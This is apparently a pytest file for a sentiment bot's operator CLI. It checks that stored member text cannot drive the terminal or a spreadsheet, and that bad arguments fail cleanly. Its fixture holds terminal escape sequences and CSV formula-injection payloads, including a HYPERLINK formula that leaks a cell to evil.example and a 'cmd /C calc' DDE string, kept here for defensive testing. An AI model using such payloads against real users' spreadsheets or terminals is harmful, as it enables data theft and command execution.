"""The operator commands against hostile data and bad arguments: ``sentiment-history`` shows a
member's text without letting it drive the terminal or a spreadsheet, and every mistake in the
arguments of ``sentiment-history``, ``sentiment-train`` and ``sentiment-evaluate`` is one line
(``error: ...``, exit code 2) given before any work."""

from __future__ import annotations

import csv
import io
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.cli import history_main
from bot.storage import PredictionRecord, Storage
from model.cli.evaluate import evaluate_main
from model.cli.options import DEFAULT_OUTPUT
from model.cli.train import train_main

ESC = "\x1b"
# What members can type into /sentiment (and what the bot then stores), aimed at the operator.
HOSTILE = {
    600: f"nice {ESC}]0;pwned title\x07 day",  # OSC: retitles the terminal
    601: f"{ESC}[2J{ESC}[H{ESC}[31mall clear{ESC}[0m",  # clear screen, cursor home, colour
    602: "innocent\rREPLACED",  # carriage return: overwrites the start of the line
    603: "abc\x08\x08\x08xyz \x00 \x7f \x9b31m \x85",  # backspace, NUL, DEL, C1 CSI and NEL
    604: "price \u202etxt.exe\u202c and \u2066isolate\u2069 \u2028",  # bidi override, isolate, LS
    605: f'=HYPERLINK("http://evil.example/?leak="&A1,"click {ESC}[5m")',
    606: "+cmd|' /C calc'!A0",
    607: "-2+3+cmd|' /C calc'!A0",
    608: "@SUM(1+1)*cmd|' /C calc'!A0",
    609: "\t=1+1",
    610: "\r=1+1",
    611: 'a normal line, with commas, "quotes" and a\nnewline: 😀 — ok',
}
# Characters the terminal would obey, none of which may reach it from the table.
OBEYED = {chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0))} - {"\n"}
OBEYED |= set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028")


@pytest.fixture
async def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "bot.db"
    storage = await Storage.open(path)
    for message_id, text in HOSTILE.items():
        await storage.add(
            PredictionRecord(
                guild_id=1, channel_id=1000, message_id=message_id, user_id=10,
                source="command", label="positive", p_positive=0.9, in_band=False,
                model_version="abc123", created_at=datetime.now(UTC), text=text,
            )
        )  # fmt: skip
    await storage.close()
    return path


def test_table_shows_control_characters_instead_of_obeying_them(
    hostile_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert history_main(["--db", str(hostile_db), "--limit", "50"]) == 0
    out = capsys.readouterr().out
    assert not set(out) & OBEYED, sorted(set(out) & OBEYED)
    lines = out.splitlines()
    assert len(lines) == 1 + len(HOSTILE) + 1  # header, one line per row, the footer
    by_message = {line.split()[5]: line for line in lines[1:-1]}
    assert r"nice \x1b]0;pwned title\x07 day" in by_message["600"]
    assert r"\x1b[2J\x1b[H\x1b[31mall" in by_message["601"]
    assert r"innocent\x0dREPLACED" in by_message["602"]
    assert r"abc\x08\x08\x08xyz \x00 \x7f \x9b31m" in by_message["603"]
    assert r"price \u202etxt.exe\u202c and \u2066iso" in by_message["604"]
    # ordinary text is unchanged (a newline is a space on one table line)
    assert 'a normal line, with commas, "quotes" an' in by_message["611"]


def test_csv_defuses_formulas_and_keeps_the_rest_exactly(
    hostile_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert history_main(["--db", str(hostile_db), "--csv", "--limit", "50"]) == 0
    rows = {r["message"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert len(rows) == len(HOSTILE)
    for message_id, text in HOSTILE.items():
        cell = rows[str(message_id)]["text"]
        if text[0] in "=+-@\t\r":
            # OWASP: a leading single quote makes the spreadsheet show the cell as text
            assert cell == "'" + text, (message_id, cell)
        else:
            assert cell == text, (message_id, cell)  # faithful: a file export is the data
    assert all(
        not value.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows.values()
        for value in row.values()
    )
    assert rows["611"]["source"] == "command" and rows["611"]["p_positive"] == "0.900"


def test_csv_on_a_terminal_shows_control_characters_too(
    hostile_db: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # printed straight to the operator's terminal (no redirect), the CSV must not drive it
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    assert history_main(["--db", str(hostile_db), "--csv", "--limit", "50"]) == 0
    out = capsys.readouterr().out
    assert not set(out) & (OBEYED - {"\r"}), sorted(set(out) & OBEYED)  # csv ends rows \r\n
    assert "\r\n" in out and "\r" not in out.replace("\r\n", "")
    rows = {r["message"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["600"]["text"] == r"nice \x1b]0;pwned title\x07 day"
    assert rows["610"]["text"] == r"\x0d=1+1"  # shown, and no longer a formula either


BAD_ARGUMENTS = [
    (["--guild", "-5"], "--guild -5"),
    (["--user", str(2**64)], f"--user {2**64}"),
    (["--channel", "-1"], "--channel -1"),
    (["--days", str(10**12)], f"--days {10**12}"),
    (["--days", "0"], "--days 0"),
    (["--limit", str(2**64)], f"--limit {2**64}"),
    (["--limit", "0"], "--limit 0"),
    (["--offset", str(2**64)], f"--offset {2**64}"),
    (["--offset", "-1"], "--offset -1"),
]


@pytest.mark.parametrize(("argv", "named"), BAD_ARGUMENTS)
@pytest.mark.parametrize("stats", [False, True])
def test_bad_history_arguments_give_one_line(
    hostile_db: Path,
    capsys: pytest.CaptureFixture[str],
    argv: list[str],
    named: str,
    stats: bool,
) -> None:
    code = history_main(["--db", str(hostile_db), *argv, *(["--stats"] if stats else [])])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith(f"error: {named} ")
    assert "give " in err  # the allowed range, i.e. the fix


def test_every_bad_history_argument_is_named_at_once(
    hostile_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["--guild", "-5", "--days", str(10**12), "--limit", "0", "--offset", str(2**64)]
    assert history_main(["--db", str(hostile_db), *argv]) == 2
    lines = capsys.readouterr().err.splitlines()
    assert [line.split()[1] for line in lines] == ["--guild", "--days", "--limit", "--offset"]


def test_history_in_range_extremes_still_work(
    hostile_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["--guild", "1", "--user", str(2**63 - 1), "--days", "36500", "--limit", str(2**63 - 1)]
    assert history_main(["--db", str(hostile_db), *argv, "--offset", str(2**63 - 1)]) == 0
    assert "(0 of 0 matching predictions" in capsys.readouterr().out


def _damaged(tmp_path: Path, hostile_db: Path) -> dict[str, Path]:
    data = hostile_db.read_bytes()
    files = {
        "text": b"id,text\n1,this is a CSV file, not a database\n",
        "zeros": bytes(8192),
        "header only": data[:100],
        "truncated": data[: len(data) // 2],
        "empty": b"",
    }
    paths = {}
    for name, content in files.items():
        path = tmp_path / f"{name.replace(' ', '-')}.db"
        path.write_bytes(content)
        paths[name] = path
    return paths


@pytest.mark.parametrize("extra", [[], ["--stats"], ["--csv"], ["--stats", "--csv"]])
def test_corrupt_database_gives_one_line_and_is_left_alone(
    tmp_path: Path, hostile_db: Path, capsys: pytest.CaptureFixture[str], extra: list[str]
) -> None:
    for name, path in _damaged(tmp_path, hostile_db).items():
        before = path.read_bytes()
        code = history_main(["--db", str(path), *extra])
        out, err = capsys.readouterr()
        if name == "empty" and code == 0:
            continue  # an empty file is an empty database to SQLite: nothing to list
        assert code == 2, (name, out, err)
        assert err.count("\n") == 1 and err.startswith("error: ") and str(path) in err, name
        assert "Traceback" not in err
        assert path.read_bytes() == before, f"{name}: the file was changed"


# -- sentiment-train / sentiment-evaluate: outputs checked before any work ----------------------


@pytest.fixture
def no_work(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Records (and stops) any loading of a model or embedding of data by the commands."""
    import model.cli.evaluate
    import model.cli.train

    started: list[str] = []

    def refuse(what: str) -> object:
        def stand_in(*args: object, **kwargs: object) -> object:
            started.append(what)
            raise AssertionError(f"{what} started before the outputs were checked")

        return stand_in

    monkeypatch.setattr(model.cli.train, "Encoder", refuse("Encoder"))
    monkeypatch.setattr(model.cli.evaluate, "embed", refuse("embed"))
    monkeypatch.setattr(
        model.cli.evaluate.SentimentClassifier, "load", refuse("SentimentClassifier.load")
    )
    return started


def _one_error(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: "), err
    assert "Traceback" not in err
    return err


def test_train_output_that_is_a_folder_fails_before_training(
    tmp_path: Path, sst2_dir: Path, no_work: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "models"
    folder.mkdir()
    cache = tmp_path / "cache"
    argv = ["--data-dir", str(sst2_dir), "--limit", "8", "--quiet", "--cache-dir", str(cache)]
    assert train_main([*argv, "--output", str(folder)]) == 2
    err = _one_error(capsys)
    assert f"--output {folder} is a folder" in err and str(folder / DEFAULT_OUTPUT.name) in err
    assert no_work == [] and not cache.exists() and list(folder.iterdir()) == []


@pytest.mark.parametrize(
    ("beside", "flag_value"),
    [
        ("out.report.json", None),  # the report written next to the artifact
        ("out.reliability.png", None),
        (None, "report-folder"),  # --report given: a folder
    ],
)
def test_train_other_outputs_checked_before_training(
    tmp_path: Path,
    sst2_dir: Path,
    no_work: list[str],
    capsys: pytest.CaptureFixture[str],
    beside: str | None,
    flag_value: str | None,
) -> None:
    output = tmp_path / "out.joblib"
    argv = ["--data-dir", str(sst2_dir), "--limit", "8", "--quiet", "--no-cache"]
    argv += ["--output", str(output)]
    if beside is not None:
        (tmp_path / beside).mkdir()
        named = f"{tmp_path / beside} (written beside --output {output}) is a folder"
    else:
        report = tmp_path / str(flag_value)
        report.mkdir()
        argv += ["--report", str(report)]
        named = f"--report {report} is a folder"
    assert train_main(argv) == 2
    assert named in _one_error(capsys)
    assert no_work == [] and not output.exists()


def test_train_output_under_a_file_fails_before_training(
    tmp_path: Path, sst2_dir: Path, no_work: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    argv = ["--data-dir", str(sst2_dir), "--limit", "8", "--quiet", "--no-cache"]
    assert train_main([*argv, "--output", str(blocker / "out.joblib")]) == 2
    err = _one_error(capsys)
    assert f"cannot create the folder {blocker}" in err and "Pick another --output" in err
    assert no_work == []


def test_finetune_adapter_path_that_is_a_file_fails_before_training(
    tmp_path: Path, sst2_dir: Path, no_work: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "out.adapter").write_text("in the way")
    argv = ["--data-dir", str(sst2_dir), "--limit", "8", "--quiet", "--no-cache", "--finetune"]
    assert train_main([*argv, "--output", str(tmp_path / "out.joblib")]) == 2
    assert "is a file where a folder goes" in _one_error(capsys)
    assert no_work == []


@pytest.mark.parametrize("flag", ["--report", "--plot"])
@pytest.mark.parametrize("problem", ["folder", "under a file", "read-only file"])
def test_evaluate_outputs_checked_before_the_model_loads(
    tmp_path: Path,
    sst2_dir: Path,
    no_work: list[str],
    capsys: pytest.CaptureFixture[str],
    flag: str,
    problem: str,
) -> None:
    if problem == "folder":
        target = tmp_path / "out"
        target.mkdir()
        expected = f"{flag} {target} is a folder; give a file path"
    elif problem == "under a file":
        (tmp_path / "a-file").write_text("not a folder")
        target = tmp_path / "a-file" / "out"
        expected = f"cannot create the folder {tmp_path / 'a-file'} for {flag} {target}"
    else:
        if os.geteuid() == 0:
            pytest.skip("root may write a read-only file")
        target = tmp_path / "locked"
        target.write_text("")
        target.chmod(0o444)
        expected = f"{flag} {target} exists and is not writable"
    argv = ["--data-dir", str(sst2_dir), "--limit", "8", "--quiet", "--no-cache"]
    assert evaluate_main([*argv, flag, str(target)]) == 2
    err = _one_error(capsys)
    assert expected in err
    assert no_work == []
